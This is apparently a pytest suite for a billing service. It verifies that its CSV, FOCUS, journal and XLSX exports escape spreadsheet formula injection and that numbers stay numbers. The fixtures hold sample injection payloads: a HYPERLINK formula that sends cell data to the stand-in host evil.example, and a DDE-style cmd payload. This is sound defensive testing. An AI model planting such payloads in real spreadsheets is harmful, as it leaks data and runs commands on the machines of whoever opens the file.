"""Spreadsheet formula injection: names, GL codes and model names that start a formula come out
of every export as text a spreadsheet will not evaluate, and numbers stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from xml.etree import ElementTree

import pytest

from billing.exports import spreadsheet_text
from billing.statements import statements_close_as_needed
from tests.billing.conftest import client_for
from tests.billing.factories import usage

CENTER_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
GL_CODE = "+6100"
EMPLOYEE_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
MODEL = "-2+3"
CR_NAME = "\rBob"
TAB_GL = "\t6110"
NS = {"x": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


@pytest.fixture
def hostile(cast):  # type: ignore[no-untyped-def]
    cast["eng"].name = CENTER_NAME
    cast["eng"].gl_code = GL_CODE
    cast["eng"].save()
    cast["ml"].gl_code = TAB_GL
    cast["ml"].save()
    cast["alice"].name = EMPLOYEE_NAME
    cast["alice"].save()
    cast["bob"].name = CR_NAME
    cast["bob"].save()
    at = dt.datetime(2026, 1, 10, 12, tzinfo=dt.UTC)
    usage(cast["alice"], at=at, cost="1.2345678901", model=MODEL)
    usage(cast["bob"], at=at, cost="2", model="gpt-a")
    statements_close_as_needed(now=dt.datetime(2026, 2, 1, 6, tzinfo=dt.UTC))
    return cast


def _export(cast, fmt: str) -> bytes:  # type: ignore[no-untyped-def]
    response = client_for(cast["finance"]).get(
        f"/api/v1/statements/export/?period=2026-01&format={fmt}"
    )
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def _rows(cast, fmt: str) -> list[dict[str, str]]:  # type: ignore[no-untyped-def]
    return list(csv.DictReader(io.StringIO(_export(cast, fmt).decode(), newline="")))


def test_finance_csv_cells_are_text(hostile) -> None:
    rows = _rows(hostile, "csv")
    alice, bob = rows
    assert alice["cost_center_name"] == "'" + CENTER_NAME
    assert alice["gl_code"] == "'" + GL_CODE
    assert alice["employee_name"] == "'" + EMPLOYEE_NAME
    assert alice["model"] == "'" + MODEL
    assert bob["employee_name"] == "'" + CR_NAME
    assert bob["gl_code"] == "'" + TAB_GL
    # Numbers are untouched.
    assert (alice["requests"], alice["input_tokens"], alice["cost"]) == ("1", "100", "1.2345678901")
    assert (bob["cost_center"], bob["cost"]) == ("eng-ml", "2.0000000000")


def test_focus_csv_cells_are_text(hostile) -> None:
    alice, bob = _rows(hostile, "focus")
    assert alice["SubAccountName"] == "'" + CENTER_NAME
    assert alice["x_GLCode"] == "'" + GL_CODE
    assert alice["SkuId"] == alice["x_Model"] == "'" + MODEL
    assert bob["x_GLCode"] == "'" + TAB_GL
    assert alice["BilledCost"] == "1.2345678901"
    assert alice["ConsumedQuantity"] == "150"


def test_journal_csv_accounts_are_text(hostile) -> None:
    rows = _rows(hostile, "journal")
    assert [(r["account"], r["debit"], r["credit"]) for r in rows] == [
        ("'" + GL_CODE, "1.23", ""),
        ("AI-EXPENSE-CENTRAL", "", "1.23"),
        ("'" + TAB_GL, "2.00", ""),
        ("AI-EXPENSE-CENTRAL", "", "2.00"),
    ]


def _cells(book: zipfile.ZipFile, sheet: str) -> list[ElementTree.Element]:
    return ElementTree.fromstring(book.read(sheet)).findall(".//x:c", NS)


def _text(cell: ElementTree.Element) -> str | None:
    inline = cell.find("x:is/x:t", NS)
    return None if inline is None else inline.text


def test_xlsx_has_no_formula_cells_and_typed_numbers(hostile) -> None:
    with zipfile.ZipFile(io.BytesIO(_export(hostile, "xlsx"))) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
        cells = {name: _cells(book, name) for name in sheets}
    every = [cell for found in cells.values() for cell in found]
    assert every and not [c for c in every if c.find("x:f", NS) is not None]
    texts = {_text(c) for c in every if c.get("t") == "inlineStr"}
    # xlsxwriter writes a leading CR as the escape _x000D_.
    assert {CENTER_NAME, GL_CODE, EMPLOYEE_NAME, MODEL} <= texts
    summary = cells["xl/worksheets/sheet1.xml"]
    # Row 2 (eng): Requests (F2) and Tokens (G2) are numbers, not text.
    by_ref = {c.get("r"): c for c in summary}
    assert by_ref["F2"].get("t") is None and by_ref["F2"].find("x:v", NS).text == "1"
    assert by_ref["G2"].find("x:v", NS).text == "150"
    assert _text(by_ref["C2"]) == CENTER_NAME


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("-1.5000000000", "-1.5000000000"),
        ("-12", "-12"),
        ("-1e5", "'-1e5"),
        ("=1+1", "'=1+1"),
        ("plain", "plain"),
        (42, 42),
    ],
)
def test_spreadsheet_text_keeps_numbers(cell: object, written: object) -> None:
    assert spreadsheet_text(cell) == written
